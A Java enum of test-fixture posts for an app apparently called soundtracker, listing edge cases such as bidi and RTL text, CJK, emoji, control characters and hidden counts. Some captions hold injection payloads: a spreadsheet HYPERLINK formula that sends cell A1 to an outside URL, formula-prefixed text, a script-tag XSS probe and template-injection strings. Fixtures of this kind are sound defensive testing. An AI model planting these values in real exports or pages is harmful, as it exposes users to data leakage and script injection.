package io.soundtracker.sample;

import java.time.Duration;

/**
 * A post that is in the network for the trouble it makes. Its caption is the trouble, or says what
 * it is.
 */
public enum Oddity {
  PINNED("saltglass.edits", Duration.ofDays(140), "where it all began 📌 #pinned"),
  FORMULA_CAPTION(
      "luna.paperplane",
      Duration.ofHours(100),
      "=HYPERLINK(\"https://www.example.com/claim?id=\"&A1,\"Claim your ticket\")"),
  PLUS_CAPTION(
      "northside.tape", Duration.ofHours(130), "+1; -2, @SUM(A1:A9)\t=1+1 |tab, ; \"csv\""),
  SCRIPT_CAPTION(
      "northside.tape",
      Duration.ofHours(80),
      "<script>alert('northside')</script> & <b>bold</b> </textarea> {{7*7}} ${7*7} %s"),
  MULTILINE_CAPTION(
      "mira.solanto",
      Duration.ofHours(60),
      "\"Primera fila\", dijo ella.\n\n'¿Y la segunda?' \\ nunca\r\n\ttercera línea #azotea"),
  LONG_CAPTION("fern.and.moss", Duration.ofHours(70), longStory()),
  RTL_CAPTION(
      "noor.of.kites",
      Duration.ofHours(50),
      "\u200fطائرتي الورقية رقم 7 (Kite No. 7) فوق السطح! \u202bמי שומע?\u202c #طائرات_ورقية"),
  CJK_CAPTION("hoshinokaban", Duration.ofHours(90), "「星の鞄」第三話：雨の駅前で。你听到了吗？ 들리나요? 全角ＡＢＣ #星の鞄"),
  EMOJI_CAPTION(
      "luna.paperplane",
      Duration.ofHours(40),
      "👩‍🚀🪁".repeat(17) + "✈️ 🏴‍☠️ 1️⃣ cut in the middle of a family 👨‍👩‍👧‍👦"),
  CONTROL_CAPTION(
      "marmot.dances", Duration.ofHours(30), "bell\u0007 tab\u000b form\f del\u007f end"),
  MISLEADING_CAPTION(
      "marmot.dances",
      Duration.ofHours(44),
      "Song: Not The Real One - Nobody | Views: 999999 | Uploaded: 1970-01-01"),
  EMPTY_CAPTION("quiet_umbrella", Duration.ofDays(17), ""),
  ZERO_VIEWS("pocket.comet", Duration.ofHours(101), "is anybody there"),
  JUST_POSTED("luna.paperplane", Duration.ofSeconds(40), "posted a moment ago"),
  NO_COUNTS("northside.tape", Duration.ofDays(12), "all counts are hidden"),
  NO_VIEWS("fern.and.moss", Duration.ofDays(6), "views are hidden"),
  NO_SAVES("mira.solanto", Duration.ofDays(25), "saves are hidden"),
  COUNTS_MISSING_ONCE("zvezda_na_kryshe", Duration.ofDays(8), "счётчики пропали на день"),
  LIKES_FALL("saltglass.edits", Duration.ofDays(20), "some likes were taken back"),
  VANISHES("luna.paperplane", Duration.ofDays(9), "gone tomorrow"),
  PHOTO("hoshinokaban", Duration.ofDays(5), "写真だけ #photo"),
  PHOTO_WITHOUT_MUSIC("quiet_umbrella", Duration.ofDays(31), "three photos, no sound"),
  WITHOUT_MUSIC("marmot.dances", Duration.ofDays(3), "sound was taken down");

  private final String handle;
  private final Duration age;
  private final String caption;

  Oddity(String handle, Duration age, String caption) {
    this.handle = handle;
    this.age = age;
    this.caption = caption;
  }

  /** The account that posted it, without the {@code @}. */
  public String handle() {
    return handle;
  }

  /** How old it is at the last observation. */
  public Duration age() {
    return age;
  }

  public String caption() {
    return caption;
  }

  boolean photo() {
    return this == PHOTO || this == PHOTO_WITHOUT_MUSIC;
  }

  boolean hasMusic() {
    return this != WITHOUT_MUSIC && this != PHOTO_WITHOUT_MUSIC;
  }

  private static String longStory() {
    StringBuilder story = new StringBuilder("The whole story of the moss jar, in order.");
    for (int day = 1; story.length() < 2_150; day++) {
      story
          .append(" Day ")
          .append(day)
          .append(": ")
          .append(day % 3 == 0 ? "it leaned towards the window" : "nothing moved, we waited")
          .append(day % 4 == 0 ? ", then it rained;" : ";");
    }
    return story.append(" the end. #moss").toString();
  }
}
